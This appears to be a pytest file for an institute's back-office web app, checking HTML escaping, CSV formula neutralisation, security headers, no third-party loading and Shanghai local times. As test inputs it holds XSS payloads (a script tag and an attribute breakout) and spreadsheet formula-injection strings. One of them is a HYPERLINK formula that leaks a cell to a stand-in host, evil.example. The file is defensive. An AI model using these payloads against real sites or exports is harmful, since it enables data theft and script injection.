"""The back office is safe to open and to export: text a device sent is text on every page
(templates autoescape), a CSV cell cannot start a formula in a spreadsheet, every answer carries
the security headers, nothing is loaded from another server, and times are the institute's."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest

from central.catalog import import_catalog
from kiosk.domain.clock import today
from kiosk.domain.spreadsheet import safe_row
from kiosk.store.catalog import demo_csv

from .nodes import enrol, push
from .test_due_office import Counter, line
from .test_feedback_office import office

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = "\" onmouseover=alert(2) x='"  # out of a quoted attribute, either quote
PAGES = ("/office", "/office/followups", "/office/satisfaction", "/office/due?within=3660d", "/office/worklist")
HEADERS = {"cache-control": "no-store", "x-frame-options": "DENY", "x-content-type-options": "nosniff",
           "referrer-policy": "no-referrer",
           "content-security-policy": "default-src 'self'; frame-ancestors 'none'; form-action 'self'"}


@pytest.fixture(autouse=True)
def institute_zone(monkeypatch):
    monkeypatch.delenv("INSTITUTE_TIME_ZONE", raising=False)  # Asia/Shanghai
    monkeypatch.delenv("CENTRAL_API_DOCS", raising=False)


def served(client, storage, organisations: tuple[str, ...], *, picked_up: date | None = None) -> list[str]:
    """A ticket per organisation, taken in and (`picked_up`) handed back, of a catalogue with cycles."""
    import_catalog(storage, demo_csv(), "demo.csv")
    counter = Counter(client, storage)
    return [counter.serve([line("L-001-001", f"S{i}")], picked_up, organisation=name)  # one instrument each
            for i, name in enumerate(organisations)]


def test_organisations_are_text_on_every_page_that_shows_them(client, storage):
    served(client, storage, (SCRIPT, ATTRIBUTE), picked_up=today() - timedelta(days=100))
    served(client, storage, (SCRIPT, ATTRIBUTE))  # in the lab: the work list
    kiosk = enrol(client, storage, name=SCRIPT)
    push(client, kiosk, kiosk.feedback(1, reason="other", reason_text=SCRIPT, comment=ATTRIBUTE, phone="13812345678"))
    headers = office(storage)
    for path in ("/office", "/office/due?within=3660d", "/office/worklist", "/office/followups"):
        page = client.get(path, headers=headers)
        assert page.status_code == 200, path
        assert "<script" not in page.text and "onmouseover=alert(2) x='" not in page.text, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text, path
        if path != "/office/followups":  # organisations; the follow-up's comment there
            assert "&#34; onmouseover=alert(2) x=&#39;" in page.text, path
    assert "&#34; onmouseover=alert(2) x=&#39;" in client.get("/office/followups", headers=headers).text


def test_what_a_page_echoes_back_is_text(client, storage):
    headers = office(storage)
    for path, params in (("/office/due", {"within": f"'>{SCRIPT}"}), ("/office/satisfaction", {"from": SCRIPT}),
                         ("/office/worklist", {"days": SCRIPT})):
        got = client.get(path, params=params, headers=headers)
        assert got.status_code == 422, path
        if got.headers["content-type"].startswith("text/html"):  # FastAPI's own checks answer JSON, and nosniff
            assert "<script" not in got.text, (path, got.text)
        else:
            assert got.headers["x-content-type-options"] == "nosniff"


def test_a_formula_typed_full_width_is_quoted_too():
    """What a Chinese input method types: a spreadsheet that folds full-width forms reads ＝ as =."""
    from kiosk.domain.spreadsheet import safe_row

    assert safe_row(["＝HYPERLINK(1)", "＋1", "－cmd", "＠SUM(A1)", "示范＝", -3.5]) == [
        "'＝HYPERLINK(1)", "'＋1", "'－cmd", "'＠SUM(A1)", "示范＝", -3.5]


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(client, storage):
    formulas = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-cmd", "@SUM(A1:A9)")  # no control
    # characters: central refuses those in a name (tab and CR are safe_row's too, below)
    served(client, storage, formulas, picked_up=today() - timedelta(days=170))
    served(client, storage, formulas)
    headers = office(storage)

    due = list(csv.reader(io.StringIO(client.get("/office/due.csv", params={"within": "3660d"},
                                                 headers=headers).text)))
    worklist = list(csv.DictReader(io.StringIO(client.get("/office/worklist.csv", headers=headers).text)))
    assert sorted(row[2] for row in due[1:]) == sorted("'" + f for f in formulas)
    assert sorted(row["organisation"] for row in worklist) == sorted("'" + f for f in formulas)
    assert all(row["instruments"] == "2" and row["waiting_days"] == "0" for row in worklist)  # numbers as numbers

    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["-cmd", -3.5, -12000, "-3.5", "示范-单位", "\tx", "\rx", "", None]))
    # a number stays one; a text "-3.5" could be a formula's start
    assert out.getvalue() == "'-cmd,-3.5,-12000,'-3.5,示范-单位,'\tx,\"'\rx\",,\r\n"


def test_satisfaction_csv_cells_from_desk_names_are_neutralised(client, storage):
    kiosk = enrol(client, storage)
    desk = enrol(client, storage, "clerk", name="=1+2")
    reg = kiosk.registered()
    t = reg["payload"]["ticket"]
    push(client, kiosk, reg)
    push(client, desk, desk.step("picked_up", t["uid"], t["number"], clerk_name="@SUM(A1)"))
    push(client, kiosk, kiosk.feedback(5, ticket=t["uid"], number=t["number"]))
    rows = list(csv.DictReader(io.StringIO(client.get("/office/satisfaction.csv", headers=office(storage)).text)))
    assert [(r["counter"], r["clerk"], r["rating"]) for r in rows] == [("'=1+2", "'@SUM(A1)", "5")]


def test_every_office_route_answers_with_the_security_headers(client, storage):
    (number,) = served(client, storage, ("示范燃气有限公司",))
    headers = office(storage)
    described = client.get("/openapi.json").json()["paths"]
    routes = [path.replace("{number}", number) for path, ops in described.items()
              if path.startswith(("/office", "/api/v1/office")) and "get" in ops]
    routes.append("/office/office.css")  # not in the description
    assert len(routes) >= 13 and "/office/due.csv" in routes
    for path in routes:
        got = client.get(path, headers=headers)
        assert got.status_code == 200, path
        expected = HEADERS | ({"cache-control": "max-age=86400"} if path.endswith(".css") else {})
        assert {name: got.headers.get(name) for name in HEADERS} == expected, path
    # refusals too: not signed in, a cross-site form, a device's API, a role that may not
    refused = (client.get("/office", follow_redirects=False), client.get("/api/v1/office/summary"),
               client.get("/api/v1/changes"),
               client.post("/office/followups/x/close", headers={**headers, "Origin": "https://a.example"}),
               client.get("/office/due", headers=office(storage, "auditor")))
    for got in refused:
        assert got.status_code in (303, 401, 403) and {name: got.headers.get(name) for name in HEADERS} == HEADERS


def test_pages_load_their_style_from_central_and_nothing_inline(client, storage):
    served(client, storage, ("示范燃气有限公司",), picked_up=today() - timedelta(days=170))
    kiosk = enrol(client, storage)
    push(client, kiosk, kiosk.feedback(1, phone="13812345678"), kiosk.feedback(5))
    headers = office(storage)
    for path in PAGES:
        page = client.get(path, headers=headers).text
        assert re.search(r"<link rel='stylesheet' href='/office/office\.css\?v=[0-9a-f]{12}'>", page), path
        assert "<style" not in page and "style=" not in page and "<script" not in page, path
    css = client.get("/office/office.css")  # no personal data: no token needed
    assert css.status_code == 200 and css.headers["content-type"].startswith("text/css") and "svg.bar" in css.text


def test_no_docs_pages_and_nothing_from_another_server(client, storage):
    served(client, storage, ("示范燃气有限公司",))
    headers = office(storage)
    assert client.get("/docs").status_code == 404 and client.get("/redoc").status_code == 404
    assert client.get("/openapi.json").json()["info"]["title"]  # the description itself stays
    for path in (*PAGES, "/openapi.json", "/office/office.css", "/office/due.csv", "/office/worklist.csv"):
        body = client.get(path, headers=headers).text
        hosts = set(re.findall(r"https?://([^/\s'\"<>)]+)", body))
        assert hosts <= {"testserver"}, (path, hosts)


def test_docs_pages_when_turned_on_may_load_their_script(storage, monkeypatch):
    from fastapi.testclient import TestClient

    from central.app import create_app

    monkeypatch.setenv("CENTRAL_API_DOCS", "on")
    with TestClient(create_app(storage)) as client:
        docs = client.get("/docs")
        assert docs.status_code == 200 and client.get("/redoc").status_code == 200
        assert docs.headers["content-security-policy"] == "frame-ancestors 'none'; form-action 'self'"
        assert docs.headers["x-frame-options"] == "DENY"
        assert client.get("/office/office.css").headers["content-security-policy"] == HEADERS[
            "content-security-policy"]


def test_times_are_the_institutes_with_its_offset_said_once(client, storage):
    late_evening = datetime(2026, 11, 24, 23, 30, tzinfo=UTC)  # 07:30 the next morning in Shanghai
    kiosk, desk = enrol(client, storage, name="大厅1号机"), enrol(client, storage, "clerk", name="1号窗口")
    reg = kiosk.registered(at=late_evening - timedelta(hours=1))
    t = reg["payload"]["ticket"]
    push(client, kiosk, reg)
    push(client, desk, desk.step("received", t["uid"], t["number"], at=late_evening,
                                 lines=[line("L-001-001", "S1")]))
    push(client, kiosk, kiosk.feedback(1, at=late_evening, phone="13812345678"),
         kiosk.feedback(5, at=late_evening, ticket=t["uid"], number=t["number"]))
    headers = office(storage)

    for path, shown in (("/office", "2026-11-25 07:30:00"), ("/office/worklist", "2026-11-25 07:30"),
                        ("/office/followups", "2026-11-25 07:30:00")):
        page = client.get(path, headers=headers).text
        assert shown in page and "23:30" not in page, path
        assert page.count("Asia/Shanghai (UTC+08:00)") == 1, path
    for path in ("/office/satisfaction", "/office/due"):
        assert client.get(path, headers=headers).text.count("Asia/Shanghai (UTC+08:00)") == 1, path

    worklist = list(csv.DictReader(io.StringIO(client.get("/office/worklist.csv", headers=headers).text)))
    assert [r["since"] for r in worklist] == ["2026-11-25T07:30:00+08:00"]
    ratings = list(csv.DictReader(io.StringIO(client.get("/office/satisfaction.csv", headers=headers).text)))
    assert {r["given_at"] for r in ratings} == {"2026-11-25T07:30:00+08:00"}
